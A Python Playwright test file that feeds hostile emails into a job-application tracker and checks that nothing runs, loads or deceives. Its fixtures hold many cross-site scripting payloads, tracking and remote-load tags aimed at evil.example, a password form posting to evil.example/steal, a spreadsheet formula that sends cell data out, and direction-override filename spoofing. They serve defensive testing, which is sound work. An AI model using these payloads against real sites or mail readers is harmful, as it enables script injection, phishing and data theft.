"""Mail that means harm, opened: nothing runs, nothing is fetched, nothing is asked, nothing deceives."""

import re
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Browser, Frame, Page, expect

from tests.browser.conftest import Journal, read, serving
from tests.mail.letters import NO, mail

RAN = "parent.ran=top.ran=window.ran=1;alert(1)"
HTML = f"""<!doctype html><html onload="{RAN}"><head><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><link rel="stylesheet" href="https://evil.example/s.css">
<link rel="prefetch" href="https://evil.example/prefetch"><link rel="dns-prefetch" href="//evil.example">
<style>@import url(https://evil.example/i.css); @font-face {{ font-family: x; src: url(https://evil.example/f.woff) }}
body {{ background: url(https://evil.example/css.png); font-family: x }} p {{ position: fixed; inset: 0 }}</style>
<script>{RAN}</script><script src="https://evil.example/x.js"></script></head>
<body onload="{RAN}" background="https://evil.example/body.png">
<p>{NO.format(role="Cook", company="Nord")}</p>
<img width="1" height="1" src="https://evil.example/pixel.gif"><img src="x" onerror="{RAN}"><img srcset="https://evil.example/2x.png 2x">
<picture><source srcset="https://evil.example/p.webp"><img></picture><video autoplay src="https://evil.example/v.mp4" poster="https://evil.example/v.png"></video>
<audio src="https://evil.example/a.mp3" autoplay onplay="{RAN}"></audio><object data="https://evil.example/o"></object><embed src="https://evil.example/e">
<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>{RAN}</script>"></iframe><iframe src="javascript:{RAN}"></iframe>
<svg onload="{RAN}"><script>{RAN}</script><image href="https://evil.example/svg.png"/><a href="javascript:{RAN}"><text>svg link</text></a></svg>
<math><maction xlink:href="javascript:{RAN}">math</maction></math>
<details open ontoggle="{RAN}"><summary>open</summary></details><input autofocus onfocus="{RAN}"><marquee onstart="{RAN}">m</marquee>
<p style="background:url(https://evil.example/inline.png)" onmouseover="{RAN}" onclick="{RAN}">Hover here</p>
<a href="javascript:{RAN}">script link</a> <a href=" jAvA&#9;script:{RAN}">odd script link</a> <a href="vbscript:{RAN}">vb link</a>
<a href="data:text/html,<script>{RAN}</script>">data link</a> <a href="https://nord.example@evil.example/">https://nord.example</a>
<a href="https://evil.example/ping" ping="https://evil.example/pinged">ping link</a>
<form action="https://evil.example/steal"><input name="word" type="password"><button formaction="javascript:{RAN}">Sign in</button></form>
<noscript><p title="</noscript><img src=x onerror={RAN}>"></noscript><math><mtext><table><mglyph><style><img src=x onerror={RAN}></style></mglyph></table></mtext></math>
<div id="content" class="masthead" hx-get="https://evil.example/hx" hx-trigger="load" data-hx-get="https://evil.example/hx">htmx</div></body></html>"""
MARKUP = f'"><img src=x onerror={RAN}><script>{RAN}</script>'
MAILS = (
    mail("Your application as Cook at Nord", HTML, "jobs@nord.example", 1).replace(b"text/plain", b"text/html"),
    mail(f"Your application as Cook at South {MARKUP}", NO.format(role="Cook", company="South"),
         f'"{MARKUP.replace(chr(34), "")}" <jobs@south.example>', 2),
    mail('=HYPERLINK("https://evil.example/?"&A1;"Your application")', NO.format(role="Cook", company="Formula"),
         "jobs@formula.example", 3),
    mail("Your application \u202egnp.exe\u2066", NO.format(role="Cook \u202etooc", company="Ost\u200b\u202e"),
         "jobs@ost.example", 4),
)  # fmt: skip
#: Where words of the mail stand on the screen, asked from outside its frame.
WHERE = """words => { const frame = document.querySelector('iframe');
    const found = [...frame.contentDocument.querySelectorAll('a, p, div')].find(one => one.textContent === words);
    found.scrollIntoView({block: 'center'});
    const [outer, inner] = [frame, found].map(one => one.getBoundingClientRect());
    return [outer.left + inner.left + 4, outer.top + inner.top + 4]; }"""
#: The marks that turn the direction of text or have no width.
DECEIVING = set("\u200b\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067\u2068\u2069\ufeff")


@pytest.fixture(scope="module")
def journal(tmp_path_factory: pytest.TempPathFactory, chromium: Browser) -> Iterator[Journal]:
    """A journal of mails that mean harm."""
    with serving(read(tmp_path_factory.mktemp("hostile") / "home", MAILS), chromium) as served:
        yield served


@pytest.fixture
def harmless(page: Page, journal: object, asked: list[str]) -> Iterator[Callable[[], None]]:
    """`harmless()`: nothing ran in any frame, and every address asked for is one of the pages or files of Onward."""
    page.add_init_script("window.ran = 0")

    def check() -> None:
        assert len(page.frames) <= 2, "a mail brought a frame of its own"
        for frame in page.frames:
            assert _ran(frame) == 0
        assert [url for url in asked if "evil" in url or not url.startswith("http://127.0.0.1:")] == []
        assert page.url.startswith("http://127.0.0.1:")
        assert len(page.context.pages) == 1

    yield check
    page.wait_for_load_state("networkidle")
    check()


def _ran(frame: Frame) -> int:
    return int(frame.evaluate("window.ran ?? 0"))


def messages(page: Page) -> list[str]:
    """The addresses of all mails that were kept."""
    found: set[str] = set()
    page.goto("/applications/")
    places = page.locator(".name-cell a").evaluate_all("all => all.map(one => one.pathname)")
    for place in ["/review/", *places]:
        page.goto(place)
        links = page.locator("a[href^='/messages/']").evaluate_all("all => all.map(one => one.pathname)")
        found.update(links)
    assert len(found) == len(MAILS)
    return sorted(found)


def test_every_page_of_a_hostile_search_is_harmless(page: Page, harmless: Callable[[], None]) -> None:
    page.goto("/applications/new/")
    for label in ("Employer", "Role", "Place", "Note"):
        page.get_by_label(re.compile(f"^{label}")).fill(MARKUP)
    page.get_by_role("button", name="Add", exact=True).click()
    expect(page.get_by_role("heading", level=1)).to_have_text(MARKUP)
    harmless()
    mails = messages(page)
    titles = set()
    lists = ["/applications/", "/applications/board/", "/rejections/", "/review/", "/reading/1/"]
    for path in [*lists, *(place + view for place in mails for view in ("", "?view=text", "body/"))]:
        page.goto(path)
        harmless()
        titles.add(page.locator("h1").first.inner_text() if page.locator("h1").count() else "")
        shown = f"{page.title()} {page.locator('body').inner_text()}"
        assert not DECEIVING & set(shown), path
        assert page.locator("[onerror], [onload], [onclick], img, embed, object").count() == 0
    # Words of mail stay words, also where a spreadsheet would compute them.
    formula = '=HYPERLINK("https://evil.example/?"&A1;"Your application")'
    assert titles >= {formula, f"Your application as Cook at South {MARKUP}", "Your application gnp.exe"}


def test_the_hostile_mail_is_cleaned_in_its_frame(page: Page, harmless: Callable[[], None]) -> None:
    page.goto("/applications/?q=nord")
    page.locator(".name-cell a").first.click()
    page.get_by_role("link", name="Your application as Cook at Nord").first.click()
    page.wait_for_function("() => document.querySelector('iframe')?.contentDocument.querySelector('mark')")
    for words in ("script link", "odd script link", "vb link", "data link", "Hover here", "htmx"):
        page.mouse.click(*page.evaluate(WHERE, words))
    harmless()
    # Only now: looking into the frame, Playwright adds listeners, of which the browser would complain.
    frame = page.frame_locator("iframe")
    expect(frame.locator("mark")).to_contain_text("move forward with other candidates")
    acting = "script, style, img, iframe, object, embed, form, input, button, svg, math, video, audio, base, meta[http-equiv]"
    expect(frame.locator(acting)).to_have_count(0)
    everything = frame.locator("body *")
    names = everything.evaluate_all("all => all.flatMap(one => one.getAttributeNames())")
    assert set(names) <= {"href", "rel", "target", "class", "colspan", "rowspan", "start"}
    links = frame.locator("a[href]").evaluate_all("all => all.map(one => one.getAttribute('href'))")
    assert links == ["https://evil.example/", "https://evil.example/ping"]
    # What a link says is not where it leads: that stands behind it.
    expect(frame.locator("body")).to_contain_text("https://nord.example (evil.example)")
